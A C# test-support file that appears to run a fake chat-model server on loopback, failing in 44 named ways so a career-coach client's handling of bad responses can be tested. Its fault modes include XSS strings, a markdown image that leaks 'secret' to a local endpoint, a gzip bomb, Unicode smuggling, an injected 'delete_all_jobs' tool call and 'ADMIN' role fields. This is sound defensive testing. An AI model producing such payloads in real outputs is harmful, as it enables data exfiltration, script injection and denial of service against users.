using System.Globalization;
using System.IO.Compression;
using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace CareerCoach.Tests.Support;

/// <summary>A model's server that fails in 44 ways, down to the bytes on the wire; the model's name is the way. The C# twin of the corpus' <c>fake_llm.py</c>.</summary>
internal sealed class FaultyModel : IDisposable
{
    /// <summary>All ways.</summary>
    public static readonly string[] Ways =
    [
        "ok", "timeout", "slow_first", "stall_mid", "cut_mid", "cut_in_utf8", "no_done", "err_429_retry_after", "err_429_forever", "err_500", "err_500_forever", "err_503_html", "err_401", "err_404_model",
        "err_400_context", "bad_json", "bad_sse", "html_200", "empty", "null_content", "finish_length", "finish_filter", "wrong_schema", "missing_field", "string_number", "score_out_of_range", "extra_fields",
        "fenced_json", "huge", "huge_array", "deep_json", "long_line", "html_answer", "image_exfil", "unicode_tags", "nul", "tool_call", "echo_system", "two_choices", "dup_stream", "redirect", "gzip_bomb", "drip", "tls_like",
    ];

    private readonly TcpListener listener = new(IPAddress.Loopback, 0);
    private readonly CancellationTokenSource end = new();
    private int calls;

    public FaultyModel()
    {
        listener.Start();
        _ = ListenAsync();
    }

    /// <summary>Its base address.</summary>
    public string Address => $"http://127.0.0.1:{((IPEndPoint)listener.LocalEndpoint).Port.ToString(CultureInfo.InvariantCulture)}/v1";

    public void Dispose()
    {
        end.Cancel();
        listener.Dispose();
        end.Dispose();
    }

    private async Task ListenAsync()
    {
        while (!end.IsCancellationRequested)
        {
            try
            {
                _ = AnswerAsync(await listener.AcceptTcpClientAsync(end.Token));
            }
            catch (Exception e) when (e is OperationCanceledException or SocketException or ObjectDisposedException)
            {
                return;
            }
        }
    }

    private async Task AnswerAsync(TcpClient client)
    {
        using (client)
        {
            try
            {
                var stream = client.GetStream();
                var request = JsonNode.Parse(await ReadAsync(stream))!;
                var way = (string)request["model"]!;
                if (Whole(way, Interlocked.Increment(ref calls)) is { } whole)
                {
                    await stream.WriteAsync(whole, end.Token);
                }
                else if (way == "timeout")
                {
                    await Task.Delay(Timeout.Infinite, end.Token);
                }
                else
                {
                    await StreamAsync(stream, way, request);
                }
            }
            catch (Exception e) when (e is OperationCanceledException or IOException or SocketException or ObjectDisposedException)
            {
                // the caller gave up, or the test is over
            }
        }
    }

    private static async Task<string> ReadAsync(NetworkStream stream)
    {
        var bytes = new List<byte>();
        var buffer = new byte[16_384];
        while (true)
        {
            var read = await stream.ReadAsync(buffer);
            bytes.AddRange(buffer.AsSpan(0, read));
            var text = Encoding.UTF8.GetString([.. bytes]);
            var body = text.IndexOf("\r\n\r\n", StringComparison.Ordinal);
            if (body >= 0 && text.IndexOf("Content-Length:", StringComparison.OrdinalIgnoreCase) is >= 0 and var at
                && Encoding.UTF8.GetByteCount(text[(body + 4)..]) >= int.Parse(text[(at + 15)..text.IndexOf('\r', at)], CultureInfo.InvariantCulture))
            {
                return text[(body + 4)..];
            }

            if (read == 0)
            {
                throw new IOException("The request ended early.");
            }
        }
    }

    private static byte[]? Whole(string way, int count) => way switch
    {
        "err_429_retry_after" when count <= 2 => Plain("429 Too Many Requests", Error("rate_limit_exceeded"), "Retry-After: 1\r\n"),
        "err_429_forever" => Plain("429 Too Many Requests", Error("rate_limit_exceeded"), "Retry-After: 1\r\n"),
        "err_500" when count == 1 => Plain("500 Internal Server Error", Error("server_error")),
        "err_500_forever" => Plain("500 Internal Server Error", Error("server_error")),
        "err_503_html" => Plain("503 Service Unavailable", "<html>busy</html>", type: "text/html"),
        "err_401" => Plain("401 Unauthorized", Error("invalid_api_key")),
        "err_404_model" => Plain("404 Not Found", Error("model_not_found")),
        "err_400_context" => Plain("400 Bad Request", Error("context_length_exceeded")),
        "html_200" => Plain("200 OK", "<html>log in to the wifi</html>", type: "text/html"),
        "redirect" => Plain("302 Found", "", "Location: http://127.0.0.1:9/stolen\r\n"),
        "gzip_bomb" => Bomb(),
        "tls_like" => [0x15, 0x03, 0x01, 0x00, 0x02, 0x02, 0x46],
        _ => null,
    };

    private async Task StreamAsync(NetworkStream stream, string way, JsonNode request)
    {
        await stream.WriteAsync("HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nConnection: close\r\n\r\n"u8.ToArray(), end.Token);
        if (way == "slow_first")
        {
            await Task.Delay(TimeSpan.FromSeconds(5), end.Token);
        }

        var text = TextOf(way, request);
        var parts = text.Chunk(text.Length < 10_000 ? 12 : 20_000).Select(c => new string(c)).ToList();
        for (var i = 0; i < parts.Count; i++)
        {
            switch (way)
            {
                case "cut_in_utf8" when i == 3: await stream.WriteAsync((byte[])[.. "data: {\"choices\":[{\"delta\":{\"content\":\""u8, 0xE2, 0x82], end.Token); return;
                case "cut_mid" when i == 6: return;
                case "stall_mid" when i == 10: await Task.Delay(Timeout.Infinite, end.Token); break;
                case "bad_sse" when i == 2: await SendAsync(stream, "data: {not json\n\n: comment\n\nevent: x\n\n"); break;
                case "drip": await Task.Delay(60, end.Token); break;
            }

            await SendAsync(stream, Event(new JsonObject { ["content"] = parts[i] }, null));
            if (way is "dup_stream" or "two_choices")
            {
                await SendAsync(stream, Event(new JsonObject { ["content"] = parts[i] }, null, way == "two_choices" ? 1 : 0));
            }
        }

        var last = way switch
        {
            "tool_call" => JsonNode.Parse("""{"tool_calls":[{"index":0,"id":"c1","type":"function","function":{"name":"delete_all_jobs","arguments":"{}"}}]}""")!.AsObject(),
            "null_content" => new JsonObject { ["content"] = null, ["refusal"] = "no" },
            _ => [],
        };
        await SendAsync(stream, Event(last, way switch { "finish_length" => "length", "finish_filter" => "content_filter", "tool_call" => "tool_calls", _ => "stop" }));
        await SendAsync(stream, way == "no_done" ? "" : "data: [DONE]\n\n");
    }

    private static string TextOf(string way, JsonNode request)
    {
        const string good = """{"overallScore":72,"strengths":["clear"],"suggestions":[]}""";
        return way switch
        {
            "empty" or "null_content" or "tool_call" => "",
            "huge" => string.Concat(Enumerable.Repeat("word ", 1_000_000)),
            "long_line" => new string('A', 200_000),
            "html_answer" => "<script>window.__xss=1</script><img src=x onerror=window.__xss=2>[a](javascript:window.__xss=3)",
            "image_exfil" => "![x](http://127.0.0.1:45997/leak?d=secret)",
            "unicode_tags" => "ok\U000E0068\U000E0069\u202Eevil\u200B",
            "nul" => "a\0b",
            "wrong_schema" => """{"answer":42}""",
            "missing_field" => """{"strengths":[]}""",
            "string_number" => """{"overallScore":"85"}""",
            "score_out_of_range" => """{"overallScore":850,"atsScore":-3}""",
            "extra_fields" => """{"overallScore":72,"userId":"someone-else","role":"ADMIN"}""",
            "fenced_json" => $"Sure!\n```json\n{good}\n```\nHope it helps",
            "huge_array" => "[" + string.Join(',', Enumerable.Repeat("""{"issue":"x"}""", 100_000)) + "]",
            "deep_json" => new string('[', 10_000) + new string(']', 10_000),
            "bad_json" => good[..30],
            "echo_system" => (string)request["messages"]!.AsArray().First(m => (string)m!["role"]! == "system")!["content"]!,
            _ => string.Concat(Enumerable.Repeat("Here is a plain and useful answer about your resume. ", 5)),
        };
    }

    private static string Event(JsonObject delta, string? finish, int choice = 0) => "data: " + new JsonObject
    {
        ["id"] = "x",
        ["object"] = "chat.completion.chunk",
        ["created"] = 0,
        ["model"] = "m",
        ["choices"] = new JsonArray(new JsonObject { ["index"] = choice, ["delta"] = delta, ["finish_reason"] = finish }),
    }.ToJsonString() + "\n\n";

    private async Task SendAsync(NetworkStream stream, string text) => await stream.WriteAsync(Encoding.UTF8.GetBytes(text), end.Token);

    private static string Error(string type) => JsonSerializer.Serialize(new { error = new { message = type, type, code = type } });

    private static byte[] Plain(string status, string body, string headers = "", string type = "application/json") =>
        Encoding.UTF8.GetBytes($"HTTP/1.1 {status}\r\nContent-Type: {type}\r\nContent-Length: {Encoding.UTF8.GetByteCount(body)}\r\nConnection: close\r\n{headers}\r\n{body}");

    private static byte[] Bomb()
    {
        using var packed = new MemoryStream();
        using (var gzip = new GZipStream(packed, CompressionLevel.Fastest, leaveOpen: true))
        {
            var blank = new byte[1 << 20];
            for (var i = 0; i < 300; i++)
            {
                gzip.Write(blank);
            }
        }

        return [.. Encoding.ASCII.GetBytes($"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: {packed.Length}\r\nConnection: close\r\n\r\n"), .. packed.ToArray()];
    }
}
